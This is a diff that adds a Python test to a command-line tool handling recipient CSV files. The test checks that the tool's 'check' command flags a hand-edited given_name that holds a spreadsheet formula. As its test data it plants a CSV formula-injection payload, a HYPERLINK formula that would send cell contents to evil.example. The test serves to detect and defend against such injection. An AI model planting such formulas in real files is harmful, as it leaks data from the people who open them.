@@ -551,3 +551,22 @@ def test_a_name_or_an_office_that_is_a_formula_is_not_imported(mini_ws, cli, tmp
     assert "in/s.csv:5:3: given_name '+Cy' is a formula" in result.out
     assert result_line(result.out) == "Result: 1 added, 0 updated, 0 unchanged, 3 skipped (of 4 rows)."
     assert sorted(by_id(mini_ws.root / "recipients" / "new.csv")) == ["a3"]
+
+
+def test_check_names_an_entry_whose_name_is_a_formula_in_a_file_not_imported(mini_ws, cli):
+    """recipients/*.csv copied in by hand is read as it is: the import's refusal never saw
+    it, and its letters would name the recipient '=HYPERLINK(…)'."""
+    result = cli("check", "-w", "ws")
+    assert result.code == 0 and "a spreadsheet would run" not in result.out + result.err
+    people = mini_ws.root / "recipients" / "people.csv"
+    text = people.read_text(encoding="utf-8").replace(
+        "mep-2,mep,Ms,Rasa,", 'mep-2,mep,Ms,"=HYPERLINK(""http://evil.example/?""&A1,""Rasa"")",', 1
+    )
+    people.write_text(text, encoding="utf-8")
+
+    result = cli("check", "-w", "ws")
+
+    assert result.code == 0, result.err
+    (said,) = [ln for ln in (result.out + result.err).splitlines() if "a spreadsheet would run" in ln]
+    assert "recipients/people.csv:3: mep-2: given_name '=HYPERLINK(" in said
+    assert "letters would name the recipient so" in said and "mep-1" not in said
